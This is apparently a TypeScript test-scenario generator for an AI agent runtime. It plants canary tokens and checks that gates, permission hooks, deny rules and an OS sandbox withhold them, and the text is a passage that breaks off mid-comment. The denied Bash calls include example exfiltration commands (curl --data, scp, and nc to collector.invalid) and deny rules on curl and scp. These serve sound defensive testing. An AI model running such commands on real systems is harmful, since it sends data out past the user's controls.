import type { ScriptInput, ScriptTurn } from "../src/models/index.js";
import { forScenario, type Random } from "./random.js";

/**
 * R1 scenarios as plain data: which runs happen in which session, what the scripted model
 * answers in each, where the canaries sit and which verdict is meant to remove each one.
 * Everything is drawn from `forScenario(seed, index)`, so (seed, index) replays a scenario.
 */

/** The verdicts R1 plants, each removing (or, for delivery, keeping from the user and the store) one canary. */
export const BLOCK_KINDS = [
  "prompt-gate",
  "input-gate",
  "ups",
  "withhold-plugin",
  "withhold-ptu",
  "response-block",
  "response-rewrite",
  "delivery-cancel",
  "delivery-rewrite",
  "compact-block",
  "call-rewrite",
  "call-block",
  "deny-rule",
  "permreq-deny",
  "managed-deny",
  // Issue 30, the persistence gate: see DOOR_KINDS.
  "summary-block",
  "write-block",
  "replacement-block",
  "ask-denied",
  "ask-unattended",
  "parser-refusal",
  "masked-secret",
  "sandbox-read",
  "sandbox-write",
  "sandbox-host",
] as const;
export type BlockKind = (typeof BLOCK_KINDS)[number];

/**
 * Issue 30's verdicts, all `before_message_write` blocks (the `store-policy` plugin in world.ts):
 * a compaction summary carrying a canary (`summary-block`: the summarizer writes it, the summary
 * must be kept nowhere and a notice stored in its place), a tool output (`write-block`: its
 * replacement is stored), and a tool output whose replacement is blocked too
 * (`replacement-block`: the replacement must meet the gate again, and only a fixed notice is
 * stored). Drawn from a random stream of their own, so the other kinds' scenarios stay as they were.
 */
export const DOOR_KINDS: readonly BlockKind[] = ["summary-block", "write-block", "replacement-block"];

/**
 * The paths issue 11 found going around a gate, each a kind of scenario R1 generates and counts:
 * replies that do not come from the model (a plugin command's, a claim's, an inbound claim's), a
 * claimed or command turn that UserPromptSubmit (or the input gate) must stop first, `/compact`'s
 * instructions, failed tools and MCP `isError` results, reasoning parts of a rewritten run, a tool
 * call's input, sub-agents two deep, the memory store under SIGKILL, and `message_sending`
 * verdicts checked in the store. Then the permission layer's (docs/permissions.md): a call a deny
 * rule from a settings file refuses, one a `PermissionRequest` hook denies (sometimes with
 * `interrupt`, which ends the run), one managed settings deny while every other source allows it;
 * and the retries (docs/lifecycle.md): a denied call the
 * model is told it may retry (`permission_denied` `retry`), a draft answer sent back by
 * `before_agent_finalize` or `Stop`, a model call the provider failed before anything streamed
 * (tried again), and a compaction summary that failed part-way (tried again).
 */
export const PATHS = [
  "command-reply",
  "claim-reply",
  "inbound-reply",
  "claimed-turn-ups",
  "compact-args",
  "failed-tool",
  "mcp-is-error",
  "reasoning",
  "tool-input",
  "depth-2",
  "memory-sigkill",
  "delivery-stored",
  "deny-rule",
  "permission-request",
  "managed-rule",
  "deny-retry",
  "revise-retry",
  "provider-retry",
  "summary-retry",
  "permission-interrupt",
  "permission-allow",
  "ask-approved",
  "ask-denied",
  "ask-unattended",
  "read-only",
  "parser-refusal",
  "masked-secret",
  "sandbox-read",
  "sandbox-write",
  "sandbox-host",
] as const;
export type Path = (typeof PATHS)[number];

/** The kinds whose canary only the OS sandbox keeps in (generated where the platform has one). */
export const SANDBOX_KINDS: readonly BlockKind[] = ["sandbox-read", "sandbox-write", "sandbox-host"];

/** Kinds that need the command-hook script configured. */
const COMMAND_HOOK_KINDS: readonly BlockKind[] = ["ups", "withhold-ptu", "permreq-deny"];

/** Content markers the policy plugin and the hook script act on. */
export const MARK = {
  promptGate: "BLOCK-PROMPT",
  inputGate: "BLOCK-INPUT",
  ups: "BLOCK-UPS",
  withholdPlugin: "WITHHOLD-PLUGIN",
  withholdPtu: "BLOCK-PTU",
  responseBlock: "BLOCK-RESPONSE",
  cancel: "CANCEL-DELIVERY",
  compactBlock: "BLOCK-COMPACT",
  callRewrite: "REWRITE-CALL",
  callBlock: "BLOCK-CALL",
  claim: "CLAIM-TURN",
  inbound: "INBOUND-CLAIM",
  permissionRequest: "BLOCK-PERMREQ",
  permissionInterrupt: "STOP-PERMREQ",
  retryPlugin: "RETRY-PLUGIN",
  retryHook: "RETRY-HOOK",
  revisePlugin: "REVISE-PLUGIN",
  reviseStop: "REVISE-STOP",
  summaryBlock: "BLOCK-SUMMARY",
  writeBlock: "BLOCK-WRITE",
  replacementBlock: "BLOCK-REPLACEMENT",
  approveYes: "APPROVE-YES",
} as const;

/**
 * The permission rules every scenario runs under (world.ts writes them to the settings files):
 * `curl` is denied by a rule in one settings source (`Scenario.denySource`) although the code
 * allows it; `scp` is denied by the managed settings file although every other source allows it;
 * `echo RAN` is allowed (a retried call, its input a control). Anything else on Bash asks, and
 * only a `PermissionRequest` hook answers (there is no person to ask).
 */
export const RULES = {
  denied: "Bash(curl:*)",
  managedDenied: "Bash(scp:*)",
  allowed: "Bash(echo RAN:*)",
  /** The project's Read deny: the sandbox makes the file unreadable to Bash too. */
  readDenied: "Read(./vault.env)",
} as const;

/** The files a scenario writes in its project folder before it runs (sandbox payloads, read-only data). */
export const VAULT_FILE = "vault.env";

/** The withheld variable whose value the `masked-secret` kind prints (a provider key: the environment policy withholds it). */
export const MASKED_VARIABLE = "OPENAI_API_KEY";

/** The settings sources the `curl` deny rule is drawn from. */
export const DENY_SOURCES = ["user", "project", "local", "cli"] as const;
export type DenySource = (typeof DENY_SOURCES)[number];

/** The policy plugin's slash command: `/answer [tag] …` replies with the run's planned reply. */
export const COMMAND = "answer";

/** What the hook script prints on stderr when it rejects a prompt: the reason users see. */
export const UPS_NOTICE = "The prompt hook rejected this prompt.";

/** How a top-level input is answered: by the model, a claim, an inbound claim, a plugin command, or `/compact`. */
export type Via = "model" | "claim" | "inbound" | "command" | "compact";

export interface Target {
  readonly k: number;
  readonly canary: string;
  readonly kind: BlockKind;
  /** The run in which the verdict applies (a sub-agent's own tag for its verdicts). */
  readonly runTag: string;
  /** Where the canary was put, for the report. */
  readonly where: string;
  /** The path of issue 11 it tries, if any. */
  readonly path?: Path;
  /** For rewrites: the text that takes the canary's place (must be found where the canary was). */
  readonly replacement?: string;
  /** False for content nothing stores (a command's or an inbound claim's reply): no replacement to find there. */
  readonly stored?: boolean;
  /** Delivery rewrites: the canary sat in the final text, so the reply must carry the replacement. */
  readonly inReply?: boolean;
  /** The canary the verdict's event holds, when not this one (a grandchild's task: its answer). */
  readonly markerCanary?: string;
  /** A denied call: who tells the model it may try again (`permission_denied`'s `retry`), if anyone. */
  readonly retryBy?: "policy" | "command-hooks";
  /** A draft answer sent back for revision: who sent it back (`before_agent_finalize`, or `Stop`). */
  readonly revisedBy?: "policy" | "command-hooks";
  /** The tool call that carries or fetches the canary (permission and sandbox kinds). */
  readonly callId?: string;
  /** A sandbox refusal: the audit decision it must leave (`sandbox:<kind>`), when the runtime can see it. */
  readonly audited?: "filesystem" | "network";
}

/**
 * A Bash call the permission check lets run, its input and output a control: by an allow rule,
 * as one of the read-only commands (never asked), or asked and approved by the scripted approver.
 */
export interface AllowedCall {
  readonly path: "permission-allow" | "read-only" | "ask-approved";
  readonly runTag: string;
  readonly callId: string;
  /** Whether someone is asked about it: never (a rule or the read-only set), or the approver. */
  readonly asked: boolean;
}

/** A model call the provider fails before anything streamed: a retryable 503, its body a token nothing may keep. */
export interface ProviderFault {
  readonly tag: string;
  /** The n-th model call of the run (1-based), as the runtime numbers them. */
  readonly step: number;
  readonly token: string;
}

export interface PlannedRun {
  readonly tag: string;
  /** Index of the session, for top-level runs. */
  readonly session: number;
  readonly prompt: string;
  readonly stream: boolean;
  readonly via: Via;
  readonly block?: BlockKind;
  /** The notice the policy returns for a gate or response block (user-facing). */
  readonly notice?: string;
  /** The internal reason the policy returns with it (must never leave the process). */
  readonly reason?: string;
  /** A `PermissionRequest` hook's deny with `interrupt` ends the run at its last tool step. */
  readonly interrupted?: boolean;
}

export type StoreKind = "sqlite" | "memory" | "postgres";

export interface Scenario {
  readonly seed: number;
  readonly index: number;
  readonly store: StoreKind;
  readonly commandHooks: boolean;
  readonly compaction: { readonly contextTokens: number; readonly keepRecent: number };
  /** Top-level runs in the order they are run; a plain `/compact` run has tag "". */
  readonly runs: readonly PlannedRun[];
  /** Sub-agent runs, by tag (started by the parent's Agent tool calls; two deep at most). */
  readonly children: readonly PlannedRun[];
  readonly script: ScriptInput;
  /** What the Lookup tool answers, by key. */
  readonly lookup: Readonly<Record<string, string>>;
  /** What the Fail tool fails with, by key. */
  readonly failing: Readonly<Record<string, string>>;
  /** What the MCP server's failing tool reports (`isError`), by key (keys unique across scenarios). */
  readonly mcp: Readonly<Record<string, string>>;
  /** What the policy's claims and command reply, by run tag. */
  readonly replies: Readonly<Record<string, string>>;
  /** The scenario runs in a process SIGKILLed at the n-th hook emission (memory store): nothing may outlive it. */
  readonly kill?: { readonly atEmit: number };
  readonly targets: readonly Target[];
  /** Canaries that nothing removes: each must be found in the store (proves the scan sees it). */
  readonly controls: readonly string[];
  /** Internal reasons: never anywhere, at any time. */
  readonly reasons: readonly string[];
  /** For rewrites, by target canary. */
  readonly replacements: Readonly<Record<string, string>>;
  /** The settings source holding the deny rule on `curl` (RULES.denied). */
  readonly denySource: DenySource;
  /**
   * A person can be asked: the scripted approver answers every ask no `PermissionRequest` hook
   * decided (yes for a call carrying MARK.approveYes, no otherwise). Unattended, an ask is denied.
   */
  readonly attended: boolean;
  /** The Bash tool runs in the OS sandbox (the sandbox kinds); false where the platform has none. */
  readonly sandbox: boolean;
  /** Files written in the project folder before the runs, by name (payloads, read-only data, the vault). */
  readonly files: Readonly<Record<string, string>>;
  /** The withheld variable's value (`MASKED_VARIABLE`), a canary of kind `masked-secret`, when planted. */
  readonly maskedSecret?: string;
  /** Calls the permission check must let run (their controls must be found), and whether they ask. */
  readonly allowed: readonly AllowedCall[];
  /**
   * Provider failures: the first attempt of each listed model call fails (and is tried again);
   * `summary`, when set, is a token the first compaction summary streams before it fails (and
   * is tried again). Neither token may be kept anywhere: the failed attempt is discarded.
   */
  readonly providerFaults: { readonly steps: readonly ProviderFault[]; readonly summary?: string };
  /** A canary the first compaction summary of the scenario carries, with `MARK.summaryBlock` (`summary-block`). */
  readonly summaryCanary?: string;
}

export interface GenerateOptions {
  /** Stores to draw from (weights by repetition). */
  readonly stores: readonly StoreKind[];
  /** Chance that a scenario configures the command-hook script (needed by ups / withhold-ptu). */
  readonly commandHookRate?: number;
  /**
   * Plant canaries in sub-agent answers that the parent then withholds (default true): the
   * parent's verdict must reach the child's own session, where the answer was stored first.
   */
  readonly childDerived?: boolean;
  /** Use the MCP server's failing tool (default true; R3's child has no server). */
  readonly mcp?: boolean;
  /** Chance that a memory-store scenario runs in a process killed mid-way (default 0.08). */
  readonly killRate?: number;
  /**
   * One scenario in this many (default 25; 0: none) runs Bash in the OS sandbox and tries its
   * refusals. Placed by index, so every 100 consecutive scenarios hold four; the sandbox costs
   * seconds a call. Pass 0 where the platform has no sandbox.
   */
  readonly sandboxEvery?: number;
  /** Chance that a scenario has a person to ask (the scripted approver; default 0.5). */
  readonly attendedRate?: number;
}

/** A model turn's verdicts: any but those on /compact and on single tool calls (planted per call). */
const PER_CALL_KINDS: readonly BlockKind[] = [
  "call-rewrite",
  "call-block",
  "deny-rule",
  "permreq-deny",
  "managed-deny",
  "ask-denied",
  "ask-unattended",
  "parser-refusal",
  "masked-secret",
  ...SANDBOX_KINDS,
];
const TOP_KINDS: readonly (BlockKind | undefined)[] = [
  undefined,
  undefined,
  undefined,
  ...BLOCK_KINDS.filter((k) => k !== "compact-block" && !PER_CALL_KINDS.includes(k) && !DOOR_KINDS.includes(k)),
];
/** A claim's or a command's reply: no model, so no prompt-gate and nothing to withhold. */
const REPLY_KINDS: readonly (BlockKind | undefined)[] = [
  undefined,
  "input-gate",
  "ups",
  "response-block",
  "response-rewrite",
  "delivery-cancel",
  "delivery-rewrite",
];
/** `/compact <instructions>` with a canary: always stopped (a summary would copy it, rightly). */
const COMPACT_KINDS: readonly BlockKind[] = ["input-gate", "ups", "compact-block"];
const CHILD_KINDS: readonly (BlockKind | undefined)[] = [
  undefined,
  undefined,
  "withhold-plugin",
  "withhold-ptu",
  "response-block",
  "response-rewrite",
];
const PROMPT_KINDS: readonly BlockKind[] = ["prompt-gate", "input-gate", "ups"];
const PROMPT_MARK: Partial<Record<BlockKind, string>> = {
  "prompt-gate": MARK.promptGate,
  "input-gate": MARK.inputGate,
  ups: MARK.ups,
  "compact-block": MARK.compactBlock,
};
/** The permission denials a call may meet: the deny rule's path, and where its canary sits. */
const DENIALS: Record<"deny-rule" | "permreq-deny" | "managed-deny", { path: Path; where: string }> = {
  "deny-rule": { path: "deny-rule", where: "the input of a Bash call a deny rule refuses" },
  "permreq-deny": { path: "permission-request", where: "the input of a Bash call a PermissionRequest hook denies" },
  "managed-deny": {
    path: "managed-rule",
    where: "the input of a Bash call managed settings deny (every other source allows it)",
  },
};
const VIA_PATH: Partial<Record<Via, Path>> = {
  claim: "claim-reply",
  inbound: "inbound-reply",
  command: "command-reply",
};

export function generateScenario(seed: number, index: number, options: GenerateOptions): Scenario {
  return new Builder(seed, index, options).build();
}

type Withheld = "Lookup" | "Fail" | "mcp__canary__fail";

class Builder {
  private readonly rng: Random;
  private k = 0;
  private readonly targets: Target[] = [];
  private readonly controls: string[] = [];
  private readonly reasons: string[] = [];
  private readonly replacements: Record<string, string> = {};
  private readonly lookup: Record<string, string> = {};
  private readonly failing: Record<string, string> = {};
  private readonly mcp: Record<string, string> = {};
  private readonly replies: Record<string, string> = {};
  private readonly scriptRuns: { match: string; turns: ScriptTurn[] }[] = [];
  private readonly children: PlannedRun[] = [];
  private readonly faults: ProviderFault[] = [];
  private readonly store: StoreKind;
  private readonly kill: { atEmit: number } | undefined;
  private readonly commandHooks: boolean;
  /** Issue 30's draws (DOOR_KINDS): a stream apart from `rng`. */
  private readonly doors: Random;
  private readonly attended: boolean;
  private readonly sandbox: boolean;
  private readonly files: Record<string, string> = {};
  private readonly allowed: AllowedCall[] = [];
  private maskedSecret: string | undefined;

  constructor(
    private readonly seed: number,
    private readonly index: number,
    private readonly options: GenerateOptions,
  ) {
    this.rng = forScenario(seed, index);
    this.doors = forScenario(seed ^ 0x30303030, index);
    const hooks = this.rng.chance(options.commandHookRate ?? 0.2);
    this.store = this.rng.pick(options.stores);
    const every = options.sandboxEvery ?? 25;
    this.sandbox = every > 0 && index % every === Math.floor(every / 2);
    const killed = !this.sandbox && this.store === "memory" && this.rng.chance(options.killRate ?? 0.08);
    this.kill = killed ? { atEmit: this.rng.int(4, 60) } : undefined;
    // A killed scenario has command hooks, so that transcripts are on disk when it dies.
    this.commandHooks = hooks || killed;
    // A sandboxed scenario's writes and connections are approved by the approver (its refusals are the sandbox's).
    this.attended = this.sandbox || this.rng.chance(options.attendedRate ?? 0.5);
  }

  build(): Scenario {
    const { rng } = this;
    const denySource = rng.pick(DENY_SOURCES);
    const summaryFault = rng.chance(0.3) ? this.token("CANARY", "summary") : undefined;
    const compaction = rng.chance(0.35)
      ? { contextTokens: 1_000_000, keepRecent: 6 }
      : { contextTokens: rng.int(40, 700), keepRecent: rng.int(0, 4) };
    const summaryCanary =
      compaction.contextTokens < 1_000_000 && this.doors.chance(0.35)
        ? this.doorTarget("summary-block", "", "a compaction summary before_message_write blocks")
        : undefined;
    const runs: PlannedRun[] = [];
    const sessions = rng.int(1, 2);
    for (let s = 0; s < sessions; s++) {
      const count = rng.int(1, 4);
      for (let r = 0; r < count; r++) {
        if (r > 0 && rng.chance(0.12))
          runs.push({ tag: "", session: s, prompt: "/compact", stream: false, via: "compact" });
        const via: Via = rng.chance(0.7)
          ? "model"
          : r > 0 && rng.chance(0.25)
            ? "compact"
            : rng.pick(["claim", "inbound", "command"] as const);
        runs.push(via === "model" ? this.run(`s${s}r${r}`, s, 0) : this.reply(`s${s}r${r}`, s, via));
      }
    }
    if (this.sandbox) runs.push(this.sandboxRun("s0sb", 0));
    return {
      seed: this.seed,
      index: this.index,
      store: this.store,
      commandHooks: this.commandHooks,
      compaction,
      runs,
      children: this.children,
      // A run no input reaches keeps the script valid when every input is a claim or a command.
      script: { runs: [...this.scriptRuns, { turns: [{ text: "unscripted" }] }] },
      lookup: this.lookup,
      failing: this.failing,
      mcp: this.mcp,
      replies: this.replies,
      ...(this.kill ? { kill: this.kill } : {}),
      targets: this.kill ? this.targets.map((t) => ({ ...t, path: "memory-sigkill" as const })) : this.targets,
      controls: this.controls,
      reasons: this.reasons,
      replacements: this.replacements,
      denySource,
      providerFaults: { steps: this.faults, ...(summaryFault ? { summary: summaryFault } : {}) },
      ...(summaryCanary ? { summaryCanary } : {}),
      attended: this.attended,
      sandbox: this.sandbox,
      files: this.files,
      ...(this.maskedSecret ? { maskedSecret: this.maskedSecret } : {}),
      allowed: this.allowed,
    };
  }

  private token(prefix: string, id: string | number): string {
    return `${prefix}-${this.seed}-${this.index}-${id}-${this.rng.hex(8)}`;
  }

  private target(kind: BlockKind, runTag: string, where: string, extra: Partial<Target> = {}): string {
    const k = this.k++;
    const canary = this.token("CANARY", k);
    this.targets.push({ k, canary, kind, runTag, where, ...extra });
    return canary;
  }

  private rewriteTarget(kind: BlockKind, runTag: string, where: string, extra: Partial<Target> = {}): string {
    const replacement = this.token("REDACTED", this.k);
    const canary = this.target(kind, runTag, where, { replacement, ...extra });
    this.replacements[canary] = replacement;
    return canary;
  }

  private control(): string {
    const canary = this.token("CANARY", `c${this.controls.length}`);
    this.controls.push(canary);
    return canary;
  }

  private pickKind<K extends BlockKind | undefined>(kinds: readonly K[]): K {
    for (;;) {
      const kind = this.rng.pick(kinds);
      if (kind === undefined || this.commandHooks || !COMMAND_HOOK_KINDS.includes(kind)) return kind;
    }
  }

  /** A notice (user-facing) and a reason (internal) for a gate's block. */
  private noticeAndReason(tag: string): { notice: string; reason: string } {
    const notice = this.token("NOTICE", tag);
    const reason = this.token("REASON", tag);
    this.reasons.push(reason);
    return { notice, reason };
  }

  /** The prompt of a top-level input (the claims and the command find the run by its tag). */
  private promptOf(tag: string, via: Via): string {
    switch (via) {
      case "model":
        return `[${tag}] Please work on task ${tag}.`;
      case "claim":
        return `[${tag}] ${MARK.claim} please.`;
      case "inbound":
        return `[${tag}] ${MARK.inbound} please.`;
      case "command":
        return `/${COMMAND} [${tag}] please`;
      case "compact":
        return `/compact [${tag}] keep`;
    }
  }

  /** An input stopped by a gate before anything answers it: the canary is in the input. */
  private stoppedInput(tag: string, session: number, via: Via, block: BlockKind, path?: Path): PlannedRun {
    const where =
      via === "compact" ? "/compact's instructions" : via === "model" ? "the user's prompt" : `a ${via} input`;
    const prompt = `${this.promptOf(tag, via)} ${PROMPT_MARK[block]} ${this.target(block, tag, where, path ? { path } : {})}`;
    const gate = block === "prompt-gate" || block === "input-gate" ? this.noticeAndReason(tag) : undefined;
    // Never answered: the gate stops the run before any model call.
    this.scriptRuns.push({ match: `^\\[${tag}\\]`, turns: [{ text: `never ${tag}` }] });
    return { tag, session, prompt, stream: false, via, block, ...(gate ?? {}) };
  }

  /** A top-level input a plugin answers (a claim, an inbound claim, its command) or `/compact` with instructions. */
  private reply(tag: string, session: number, via: Exclude<Via, "model">): PlannedRun {
    const { rng } = this;
    if (via === "compact") return this.stoppedInput(tag, session, via, this.pickKind(COMPACT_KINDS), "compact-args");
    const block = this.pickKind(REPLY_KINDS);
    if (block === "input-gate" || block === "ups")
      return this.stoppedInput(tag, session, via, block, "claimed-turn-ups");
    const stored = via === "claim";
    const at = { path: VIA_PATH[via] as Path, stored };
    const where = `the reply of ${via === "claim" ? "a claim" : via === "inbound" ? "an inbound claim" : "a command"}`;
    const bits = [`reply of ${tag}`];
    let notice: string | undefined;
    let reason: string | undefined;
    switch (block) {
      case "response-block":
        bits.push(this.target(block, tag, where, at), MARK.responseBlock);
        notice = this.token("NOTICE", tag);
        break;
      case "response-rewrite":
        bits.push(this.rewriteTarget(block, tag, where, { ...at, inReply: true }));
        break;
      case "delivery-cancel":
        bits.push(MARK.cancel, this.target(block, tag, where, at));
        reason = this.token("REASON", tag);
        this.reasons.push(reason);
        break;
      case "delivery-rewrite":
        bits.push(this.rewriteTarget(block, tag, where, { ...at, inReply: true }));
        break;
      default:
        // A reply the store keeps proves the scan sees it; the others are kept nowhere.
        if (stored) bits.push(this.control());
    }
    this.replies[tag] = bits.join(" ");
    return {
      tag,
      session,
      prompt: this.promptOf(tag, via),
      stream: rng.chance(0.4),
      via,
      ...(block ? { block } : {}),
      ...(notice ? { notice } : {}),
      ...(reason ? { reason } : {}),
    };
  }

  /** One model-answered run (top-level or sub-agent): its prompt, its script, its canaries. */
  private run(tag: string, session: number, depth: number): PlannedRun {
    const { rng } = this;
    const block = this.pickKind(depth === 0 ? TOP_KINDS : CHILD_KINDS);
    if (block !== undefined && PROMPT_KINDS.includes(block)) return this.stoppedInput(tag, session, "model", block);
    const stream = depth === 0 && rng.chance(0.4);
    let prompt = this.promptOf(tag, "model");
    if (depth === 0) prompt += ` ${this.control()}`;
    const notice = block === "response-block" ? this.token("NOTICE", tag) : undefined;
    let reason: string | undefined;
    if (block === "delivery-cancel") {
      reason = this.token("REASON", tag);
      this.reasons.push(reason);
    }

    const turns: ScriptTurn[] = [];
    const needsTool = block === "withhold-plugin" || block === "withhold-ptu";
    const steps = Math.max(needsTool ? 1 : 0, rng.int(0, 3));
    const withholdAt = needsTool ? rng.int(0, steps - 1) : -1;
    // A run with no output verdict may end at its last tool step, a PermissionRequest deny's `interrupt`.
    const interruptAt =
      depth === 0 && this.commandHooks && steps > 0 && (block === undefined || needsTool) && rng.chance(0.35)
        ? steps - 1
        : -1;
    for (let step = 0; step < steps; step++) {
      const calls: NonNullable<ScriptTurn["toolCalls"]> = [];
      const count = rng.int(1, 2);
      for (let i = 0; i < count; i++) {
        const id = `${tag}_${step}_${i}`;
        const withhold = step === withholdAt && i === 0;
        if (withhold && depth === 0 && this.options.childDerived !== false && rng.chance(0.5))
          calls.push(this.withheldChild(tag, session, block as BlockKind, id));
        else if (withhold) calls.push(this.toolCall(tag, block, id, this.withheldTool(), true));
        else calls.push(this.anyCall(tag, session, depth, block, id));
      }
      // (Not in a run whose answer is blocked: the block takes the call, rewritten or not, with it.)
      if (depth === 0 && block !== "response-block" && rng.chance(0.15))
        calls.push(this.policedCall(tag, `${tag}_${step}_p`));
      const denied =
        step === interruptAt
          ? { call: this.interruptingCall(tag, `${tag}_${step}_d`) }
          : block !== "response-block" && rng.chance(this.commandHooks ? 0.25 : 0.12)
            ? this.deniedCall(tag, `${tag}_${step}_d`)
            : undefined;
      if (denied) calls.push(denied.call);
      if (depth === 0 && block !== "response-block" && interruptAt < 0 && rng.chance(0.2))
        calls.push(this.permissionCall(tag, `${tag}_${step}_q`));
      turns.push({ ...this.assistantText(tag, block, `step ${step}`, false, depth), toolCalls: calls });
      // Told it may try again, the model does, with an input the rules allow.
      if (denied?.retried) turns.push({ toolCalls: [denied.retried] });
    }
    // A draft answer with a canary, sent back for revision; the output gate's verdict must still reach it.
    if ((block === "response-block" || block === "response-rewrite") && rng.chance(0.35))
      turns.push(this.draft(tag, block));
    // (An interrupted run never gets to its answer.)
    if (interruptAt < 0) turns.push(this.assistantText(tag, block, "final", true, depth));
    // The provider fails one of the run's model calls before anything streamed: it is tried again.
    if (rng.chance(0.12))
      this.faults.push({ tag, step: rng.int(1, turns.length), token: this.token("CANARY", `f${this.faults.length}`) });
    this.scriptRuns.push({ match: `^\\[${tag}\\]`, turns });
    return {
      tag,
      session,
      prompt,
      stream,
      via: "model",
      ...(block ? { block } : {}),
      ...(notice ? { notice } : {}),
      ...(reason ? { reason } : {}),
      ...(interruptAt >= 0 ? { interrupted: true } : {}),
    };
  }

  /** A call with nothing to withhold: a tool (its output a control), or a sub-agent. */
  private anyCall(
    tag: string,
    session: number,
    depth: number,
    block: BlockKind | undefined,
    id: string,
  ): NonNullable<ScriptTurn["toolCalls"]>[number] {
    const roll = this.rng.next();
    if (roll < 0.4) return this.toolCall(tag, block, id, "Lookup", false);
    if (roll < 0.5) return this.toolCall(tag, block, id, "Fail", false);
    if (roll < 0.55 && this.options.mcp !== false) return this.toolCall(tag, block, id, "mcp__canary__fail", false);
    if (roll < 0.77 || depth > 0) return { id, name: "Echo", input: { text: `echo ${id}` } };
    const child = `${tag}c${this.children.length}`;
    this.children.push(this.run(child, session, depth + 1));
    return { id, name: "Agent", input: { description: `subtask ${child}`, prompt: `[${child}] Sub-task for ${tag}.` } };
  }

  private withheldTool(): Withheld {
    const roll = this.rng.next();
    if (roll < 0.5) return "Lookup";
    if (roll < 0.8 || this.options.mcp === false) return "Fail";
    return "mcp__canary__fail";
  }

  /**
   * A call to a tool whose output (success, failure, or MCP `isError`) comes from a table, never
   * from its input: a canary there can only come from the output.
   */
  private toolCall(
    tag: string,
    block: BlockKind | undefined,
    id: string,
    tool: Withheld,
    withhold: boolean,
  ): NonNullable<ScriptTurn["toolCalls"]>[number] {
    const path: Path | undefined =
      tool === "Fail" ? "failed-tool" : tool === "mcp__canary__fail" ? "mcp-is-error" : undefined;
    const what =
      tool === "Lookup" ? "a Lookup output" : tool === "Fail" ? "a failed call's output" : "an MCP isError result";
    let value: string;
    if (withhold) {
      const marker = block === "withhold-plugin" ? MARK.withholdPlugin : MARK.withholdPtu;
      value = `secret ${marker} ${this.target(block as BlockKind, tag, what, path ? { path } : {})}`;
    } else if (block === "response-block")
      // A response block removes the run's tool messages too: their content goes with it.
      value = `data ${this.target(block, tag, `${what} of a blocked run`, path ? { path } : {})}`;
    else value = `data ${this.control()}`;
    if (tool === "Lookup" && !withhold && block !== "response-block") value = this.storeGated(tag, value);
    if (tool === "Lookup") this.lookup[id] = value;
    else if (tool === "Fail") this.failing[id] = value;
    else {
      const key = `${this.seed}-${this.index}-${id}`;
      this.mcp[key] = value;
      return { id, name: tool, input: { key } };
    }
    return { id, name: tool, input: { key: id } };
  }

  /** A target of DOOR_KINDS, its token from the doors' own stream. */
  private doorTarget(kind: BlockKind, runTag: string, where: string): string {
    const k = this.k++;
    const canary = `CANARY-${this.seed}-${this.index}-${k}-${this.doors.hex(8)}`;
    this.targets.push({ k, canary, kind, runTag, where });
    return canary;
  }

  /**
   * A Lookup output, sometimes one `before_message_write` keeps out of the store (`write-block`),
   * or whose replacement it keeps out too (`replacement-block`); then its control goes (it is
   * stored nowhere) and a canary takes its place.
   */
  private storeGated(tag: string, value: string): string {
    const roll = this.doors.next();
    if (roll >= 0.18) return value;
    const kind = roll < 0.1 ? "write-block" : "replacement-block";
    this.controls.pop();
    const where =
      kind === "write-block"
        ? "a Lookup output before_message_write blocks"
        : "a Lookup output whose replacement before_message_write blocks too";
    const mark = kind === "write-block" ? MARK.writeBlock : MARK.replacementBlock;
    return `data ${mark} ${this.doorTarget(kind, tag, where)}`;
  }

  /** An Echo call whose input a policy rewrites or blocks: the stored call must never hold the original. */
  private policedCall(tag: string, id: string): NonNullable<ScriptTurn["toolCalls"]>[number] {
    if (this.rng.chance(0.5)) {
      const canary = this.rewriteTarget("call-rewrite", tag, "a tool call's input", { path: "tool-input" });
      return { id, name: "Echo", input: { text: `${MARK.callRewrite} ${canary}` } };
    }
    const canary = this.target("call-block", tag, "a blocked tool call's input", { path: "tool-input" });
    return { id, name: "Echo", input: { text: `${MARK.callBlock} ${canary}` } };
  }

  /**
   * A Bash call whose input carries a canary and meets a permission denial: a deny rule from a
   * settings file (`curl`), a `PermissionRequest` hook (a command nothing allows, so it asks), or
   * managed settings (`scp`, which every other source allows). The command is sometimes compound
   * or starts with an assignment: deny rules see every command of a line. Sometimes the denial's
   * `permission_denied` handler (the policy, or the `PermissionDenied` hook) says the model may
   * try again, and it does: then the retried call, whose input is a control, runs.
   */
  private deniedCall(
    tag: string,
    id: string,
  ): {
    call: NonNullable<ScriptTurn["toolCalls"]>[number];
    retried?: NonNullable<ScriptTurn["toolCalls"]>[number];
  } {
    const { rng } = this;
    const kind = this.pickKind(["deny-rule", "managed-deny", "permreq-deny", "permreq-deny"] as const);
    const retryBy = rng.chance(0.35) ? (this.commandHooks && rng.chance(0.5) ? "command-hooks" : "policy") : undefined;
    const retryMark = retryBy === undefined ? "" : retryBy === "policy" ? MARK.retryPlugin : MARK.retryHook;
    const { path, where } = DENIALS[kind];
    const canary = this.target(kind, tag, where, {
      path: retryBy ? "deny-retry" : path,
      ...(retryBy ? { retryBy } : {}),
    });
    let command: string;
    if (kind === "permreq-deny")
      command = `printf '%s\\n' '${MARK.permissionRequest} ${retryMark} ${canary}' | nc -w 1 collector.invalid 9`;
    else {
      const [program, args] =
        kind === "deny-rule"
          ? ["curl", `--max-time 1 -s --data ${canary} https://collector.invalid/${retryMark}`]
          : ["scp", `-o ConnectTimeout=1 ./${canary}.txt collector.invalid:/tmp/${retryMark}`];
      const variant = rng.int(0, 3);
      command =
        variant === 0
          ? `${program} ${args}`
          : variant === 1
            ? `echo RAN && ${program} ${args}`
            : variant === 2
              ? `GATEHOUSE_X=1 ${program} ${args}`
              : `echo $(${program} ${args})`;
    }
    const call = { id, name: "Bash", input: { command } };
    if (!retryBy) return { call };
    return { call, retried: { id: `${id}r`, name: "Bash", input: { command: `echo RAN ${this.control()}` } } };
  }

  /** A Bash call a `PermissionRequest` hook denies with `interrupt`: the run ends once the step's calls are stored. */
  private interruptingCall(tag: string, id: string): NonNullable<ScriptTurn["toolCalls"]>[number] {
    const where = "the input of a Bash call a PermissionRequest hook denies, ending the run";
    const canary = this.target("permreq-deny", tag, where, { path: "permission-interrupt" });
    return {
      id,
      name: "Bash",
      input: { command: `printf '%s\\n' '${MARK.permissionInterrupt} ${canary}' | nc -w 1 collector.invalid 9` },
    };
  }

  /**
   * A Bash call down one of the permission paths (docs/permissions.md): allowed by a rule, one of
   * the read-only commands (never asked, attended or not), asked and approved, asked and refused
   * by the approver, asked with nobody to ask (denied), or a line the shell reader cannot read
   * statically behind an allowed prefix (never allowed by the narrow rule: asked, denied
